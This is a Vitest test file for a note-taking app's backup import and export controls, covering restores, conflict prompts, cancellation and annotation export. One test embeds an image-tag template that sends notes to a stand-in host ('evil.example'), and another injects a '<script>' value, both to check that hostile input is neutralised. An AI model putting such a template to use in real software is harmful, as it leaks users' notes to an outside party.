import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/preact';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { BackupControls } from '@/components/dashboard/BackupControls';
import { libraryBackup } from '@/components/data/useBackup';
import type { DownloadFile } from '@/components/download';
import { createBackup, type LibraryData, parseBackup, serializeBackup } from '@/core/backup';
import { createDatabase, type TalkNotesDatabase } from '@/storage/db';
import { conferenceLibrary, highlight, page, sampleLibrary, talk } from '../../core/backup-fixtures';
import { fillLibrary, readWholeLibrary } from '../../storage/library-helpers';

const NOW = Date.UTC(2024, 4, 1, 9, 30);
const HELD_NOTE =
  ' Its export options were not applied: they change what every export writes. They are shown below.';

let db: TalkNotesDatabase;
let download: ReturnType<typeof vi.fn<(file: DownloadFile) => void>>;
beforeEach(() => {
  db = createDatabase(`backup-controls-${crypto.randomUUID()}`);
  download = vi.fn<(file: DownloadFile) => void>();
});
afterEach(async () => {
  cleanup();
  await db.delete();
});

function show() {
  const onImported = vi.fn();
  const onHighlightsChanged = vi.fn();
  render(
    <BackupControls
      backup={libraryBackup(db, onHighlightsChanged)}
      download={download}
      now={() => NOW}
      onImported={onImported}
    />,
  );
  return { onImported, onHighlightsChanged };
}

function chooseFile(content: string, name = 'backup.json') {
  const input = screen.getByLabelText('Import backup') as HTMLInputElement;
  fireEvent.change(input, { target: { files: [new File([content], name, { type: 'application/json' })] } });
}

describe('BackupControls', () => {
  it('Export backup downloads one JSON file of the whole library', async () => {
    await fillLibrary(db, sampleLibrary());
    show();
    fireEvent.click(screen.getByRole('button', { name: 'Export backup' }));
    await waitFor(() => expect(download).toHaveBeenCalledOnce());
    const file = download.mock.calls[0]![0];
    expect(file.name).toBe('talk-notes-backup-2024-05-01.json');
    expect(file.type).toBe('application/json');
    const parsed = parseBackup(file.text);
    expect(parsed.ok && parsed.backup.highlights).toEqual(sampleLibrary().highlights);
    expect(screen.getByRole('status').textContent).toBe('Backup exported: 3 highlights, 2 pages.');
  });

  it('Import backup restores a backup, says what changed and has the open pages redrawn', async () => {
    const { onImported, onHighlightsChanged } = show();
    chooseFile(serializeBackup(createBackup(sampleLibrary(), NOW)));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe(
        `Imported backup.json: 9 added, 0 updated, 0 unchanged.${HELD_NOTE}`,
      ),
    );
    expect(onImported).toHaveBeenCalledWith(expect.objectContaining({ added: 9 }));
    expect(await db.highlights.count()).toBe(3);
    const pages = [...new Set(sampleLibrary().highlights.map((h) => h.url))];
    expect(onHighlightsChanged).toHaveBeenCalledExactlyOnceWith(expect.arrayContaining(pages));
    expect(onHighlightsChanged.mock.calls[0]![0]).toHaveLength(pages.length);
    // Choosing the same file again is allowed, and changes nothing.
    chooseFile(serializeBackup(createBackup(sampleLibrary(), NOW)));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe(
        `Imported backup.json: 0 added, 0 updated, 9 unchanged.${HELD_NOTE}`,
      ),
    );
    expect(onHighlightsChanged).toHaveBeenCalledOnce();
  });

  it('Import backup shows the export options a backup holds, template as text, and applies them only when asked', async () => {
    const template = '<img src="https://evil.example/?n={{note}}">\n> {{quote}}';
    const library = sampleLibrary();
    library.settings = [
      ...library.settings.filter((s) => s.key !== 'exportOptions'),
      {
        key: 'exportOptions',
        value: {
          groupBy: 'page',
          includeNotes: true,
          includeTags: false,
          includeLinks: true,
          includeFrontMatter: false,
          includeAuthor: false,
          template,
        },
      },
      { key: 'telemetry', value: { id: 'x' } },
    ];
    show();
    chooseFile(serializeBackup(createBackup(library, NOW)));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe(
        `Imported backup.json: 9 added, 0 updated, 0 unchanged. 1 setting this version does not know was left out ("telemetry").${HELD_NOTE}`,
      ),
    );
    const held = screen.getByRole('region', { name: 'Export options in the backup' });
    expect(held.textContent).toContain(
      'The backup’s export options, with a template: sections by page, notes yes, tags no, links to passages yes, front matter no.',
    );
    // The template is shown as it is, as text.
    expect(held.querySelector('pre')?.textContent).toBe(template);
    expect(held.querySelector('img')).toBeNull();
    expect((await readWholeLibrary(db)).settings.map((s) => s.key)).toEqual(['colorNames']);

    fireEvent.click(screen.getByRole('button', { name: 'Use these export options' }));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe(
        'The export options from the backup are now yours.',
      ),
    );
    expect((await db.settings.get('exportOptions'))?.value).toEqual(library.settings[1]!.value);
    expect(screen.queryByRole('region', { name: 'Export options in the backup' })).toBeNull();

    // The same options again: nothing to ask.
    chooseFile(serializeBackup(createBackup(library, NOW)));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toMatch(/^Imported backup\.json: 0 added/),
    );
    expect(screen.getByRole('status').textContent).not.toContain('export options');
    expect(screen.queryByRole('button', { name: 'Use these export options' })).toBeNull();
  });

  it('Import backup brings conferences: counted in the summary, with a word on links it had to drop', async () => {
    show();
    const library = conferenceLibrary();
    library.talks.push(talk('to-nowhere', 'recap', { scheduleTalkId: 'gone', scheduleLink: 'chosen' }));
    chooseFile(serializeBackup(createBackup(library, NOW)));
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe(
        'Imported backup.json: 8 added, 0 updated, 0 unchanged. 1 talk was linked to a conference talk that is neither in the file nor in your library: the link was dropped, and its passages stay under that talk.',
      ),
    );
    expect(await db.conferences.count()).toBe(1);
    expect((await db.talks.get('to-nowhere'))?.scheduleTalkId).toBeUndefined();
    expect((await db.talks.get('pt1'))?.scheduleTalkId).toBe('ct1');
  });

  it.each([
    [
      'truncated',
      (t: string) => t.slice(0, t.length / 2),
      /^Could not import broken\.json: The file is truncated: .* Nothing was changed\.$/,
    ],
    [
      'not JSON',
      () => 'hello',
      /^Could not import broken\.json: The file is not JSON: it starts with "hello"\. Nothing was changed\.$/,
    ],
    [
      'from a newer version',
      (t: string) => t.replace('"version":2', '"version":3'),
      /^Could not import broken\.json: This backup is version 3, newer than this Talk Notes understands \(version 2\)\. Update Talk Notes, then import it again\. Nothing was changed\.$/,
    ],
    [
      'with an invalid record',
      (t: string) => t.replace('"color":"blue"', '"color":"<script>"'),
      /^Could not import broken\.json: The backup is not valid: highlights\[0\]\.color: Invalid type: .* Nothing was changed\.$/,
    ],
  ])(
    'Import backup with a broken file (%s): the error is shown and the library is unchanged',
    async (_, breakIt, message) => {
      await fillLibrary(db, {
        ...sampleLibrary(),
        highlights: [highlight('mine', 'p1', { note: 'keep me' })],
      });
      const before = await readWholeLibrary(db);
      show();
      chooseFile(breakIt(serializeBackup(createBackup(sampleLibrary(), NOW))), 'broken.json');
      await waitFor(() => expect(screen.getByRole('alert').textContent).toMatch(message));
      expect(await readWholeLibrary(db)).toEqual(before);
    },
  );

  it('Cancel stops a long import and leaves the library unchanged', async () => {
    await fillLibrary(db, sampleLibrary());
    const before = await readWholeLibrary(db);
    const big: LibraryData = {
      pages: [page('big')],
      conferences: [],
      talks: [],
      highlights: Array.from({ length: 8_000 }, (_, i) => highlight(`big-${i}`, 'big', { position: i })),
      collections: [],
      settings: [],
    };
    show();
    chooseFile(serializeBackup(createBackup(big, NOW)), 'big.json');
    const cancel = await screen.findByRole('button', { name: 'Cancel' });
    expect(screen.getByRole('progressbar', { name: 'Backup progress' })).toBeDefined();
    fireEvent.click(cancel);
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe('Import cancelled. Nothing was changed.'),
    );
    expect(await readWholeLibrary(db)).toEqual(before);
  });

  describe('a backup with newer versions of the reader’s records (#14, finding 7)', () => {
    /** The library's sample, then a backup of it where h1's note and p2's title were edited later elsewhere. */
    async function newerBackup() {
      await fillLibrary(db, sampleLibrary());
      const library = sampleLibrary();
      const later = NOW - 60_000;
      const backup: LibraryData = {
        ...library,
        pages: [library.pages[0]!, { ...library.pages[1]!, title: 'Renamed elsewhere', updatedAt: later }],
        highlights: [
          { ...library.highlights[0]!, note: 'Their note', updatedAt: later },
          ...library.highlights.slice(1),
          highlight('h-new', 'p1', { position: 90 }),
        ],
        settings: [],
      };
      return serializeBackup(createBackup(backup, NOW));
    }
    const overwritten = () =>
      [
        ...screen.getByRole('list', { name: 'Records the backup would overwrite' }).querySelectorAll('li'),
      ].map((li) => li.textContent);

    it('lists what would be overwritten and asks; Keep mine adds only what is new', async () => {
      const { onHighlightsChanged } = show();
      chooseFile(await newerBackup(), 'laptop.json');
      const dialog = await screen.findByRole('alertdialog');
      expect(dialog.textContent).toContain(
        'laptop.json has newer versions of 2 of your records. Importing it would overwrite them:',
      );
      expect(overwritten()).toEqual(['Highlight: “Passage h1”', 'Page: Day 2 — “quotes” & <b>']);
      // Nothing is written while the reader decides.
      expect(await db.highlights.get('h-new')).toBeUndefined();
      // The safe choice has the focus.
      await waitFor(() =>
        expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Keep mine' })),
      );

      fireEvent.click(screen.getByRole('button', { name: 'Keep mine' }));
      await waitFor(() =>
        expect(screen.getByRole('status').textContent).toBe(
          'Imported laptop.json: 1 added, 0 updated, 8 unchanged.',
        ),
      );
      expect((await db.highlights.get('h1'))?.note).toBe('A **note**');
      expect((await db.pages.get('p2'))?.title).toBe('Day 2 — “quotes” & <b>');
      expect(await db.highlights.get('h-new')).toBeDefined();
      expect(onHighlightsChanged).toHaveBeenCalledOnce();
    });

    it('Overwrite takes the backup’s versions', async () => {
      show();
      chooseFile(await newerBackup(), 'laptop.json');
      fireEvent.click(await screen.findByRole('button', { name: 'Overwrite' }));
      await waitFor(() =>
        expect(screen.getByRole('status').textContent).toBe(
          'Imported laptop.json: 1 added, 2 updated, 6 unchanged.',
        ),
      );
      expect((await db.highlights.get('h1'))?.note).toBe('Their note');
      expect((await db.pages.get('p2'))?.title).toBe('Renamed elsewhere');
    });

    it('Cancel changes nothing', async () => {
      show();
      chooseFile(await newerBackup(), 'laptop.json');
      const before = await readWholeLibrary(db);
      const dialog = await screen.findByRole('alertdialog');
      fireEvent.click(within(dialog).getByRole('button', { name: 'Cancel' }));
      await waitFor(() =>
        expect(screen.getByRole('status').textContent).toBe('Import cancelled. Nothing was changed.'),
      );
      expect(await readWholeLibrary(db)).toEqual(before);
      expect(screen.queryByRole('alertdialog')).toBeNull();
    });

    it('names the first ten and counts the rest', async () => {
      const mine = Array.from({ length: 13 }, (_, i) => highlight(`m${i}`, 'p1', { position: i }));
      await fillLibrary(db, { ...sampleLibrary(), highlights: mine, collections: [], settings: [] });
      const theirs = mine.map((h) => ({ ...h, note: 'edited elsewhere', updatedAt: NOW - 1_000 }));
      show();
      chooseFile(
        serializeBackup(
          createBackup({ ...sampleLibrary(), highlights: theirs, collections: [], settings: [] }, NOW),
        ),
      );
      await screen.findByRole('alertdialog');
      expect(overwritten()).toHaveLength(10);
      expect(overwritten()[0]).toBe('Highlight: “Passage m0”');
      expect(screen.getByText('…and 3 more.')).toBeDefined();
    });
  });

  it('Export Web Annotations downloads a JSON-LD AnnotationCollection', async () => {
    await fillLibrary(db, sampleLibrary());
    show();
    fireEvent.click(screen.getByRole('button', { name: 'Export Web Annotations' }));
    await waitFor(() => expect(download).toHaveBeenCalledOnce());
    const file = download.mock.calls[0]![0];
    expect(file).toMatchObject({
      name: 'talk-notes-annotations-2024-05-01.jsonld',
      type: 'application/ld+json',
    });
    expect(JSON.parse(file.text)).toMatchObject({ type: 'AnnotationCollection', total: 3 });
  });

  it('Export Web Annotations: a passage of a conference talk links to the talk’s event page and names the talk and its conference', async () => {
    await fillLibrary(db, conferenceLibrary());
    show();
    fireEvent.click(screen.getByRole('button', { name: 'Export Web Annotations' }));
    await waitFor(() => expect(download).toHaveBeenCalledOnce());
    const items = JSON.parse(download.mock.calls[0]![0].text).first.items as { body?: unknown[] }[];
    // hr1 is under a page talk linked to ct1 (the page talk's title, event page and recording), hr2
    // directly under ct2; both name their talk and its conference, read from the library (#19).
    const fosdem = expect.objectContaining({
      id: 'urn:talk-notes:conference:fosdem',
      label: 'Conference fosdem',
    });
    expect(items.map((a) => a.body)).toEqual([
      [
        { type: 'TextualBody', value: 'Rust in the kernel', purpose: 'identifying', format: 'text/plain' },
        expect.objectContaining({
          type: 'SpecificResource',
          id: 'urn:talk-notes:talk:ct1',
          purpose: 'identifying',
          source: 'https://schedule.example/fosdem/event/ev-1',
          label: 'Rust in the kernel',
          'dcterms:isPartOf': fosdem,
        }),
        { type: 'SpecificResource', purpose: 'linking', source: 'https://video.example/rust.webm' },
      ],
      [
        expect.objectContaining({
          type: 'SpecificResource',
          id: 'urn:talk-notes:talk:ct2',
          purpose: 'identifying',
          source: 'https://schedule.example/fosdem/event/ev-2',
          label: 'Postgres at scale',
          'dcterms:isPartOf': fosdem,
        }),
      ],
    ]);
  });
});
